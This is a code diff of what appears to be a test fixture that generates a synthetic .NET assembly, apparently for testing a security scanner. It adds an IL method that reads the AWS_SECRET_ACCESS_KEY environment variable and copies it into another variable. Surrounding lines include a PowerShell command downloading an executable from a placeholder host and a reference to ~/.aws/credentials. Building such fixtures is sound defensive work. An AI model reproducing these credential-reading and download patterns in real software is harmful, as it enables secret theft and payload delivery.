@@ -48,6 +48,10 @@ const getVariable = method(
   'string',
   ['string'],
 );
+const setVariable = method('[System.Runtime]System.Environment', 'SetEnvironmentVariable', 'void', [
+  'string',
+  'string',
+]);
 const ps1 = 'Invoke-WebRequest -Uri https://files.test/tool.exe -OutFile $env:TEMP/tool.exe\n';
 const targets = `<Project InitialTargets="Early">
   <PropertyGroup><Text>$([System.IO.File]::ReadAllText('a.txt'))</Text></PropertyGroup>
@@ -84,6 +88,16 @@ export function busyAssembly(): Uint8Array {
               ['ldstr', '~/.aws/credentials'],
               ['pop'],
               ['label', 'end'],
+              ['ret'],
+            ],
+          },
+          {
+            name: 'Keep',
+            body: [
+              ['ldstr', 'FIXTURE_KEPT'],
+              ['ldstr', 'AWS_SECRET_ACCESS_KEY'],
+              ['call', getVariable],
+              ['call', setVariable],
               ['ret'],
             ],
           },
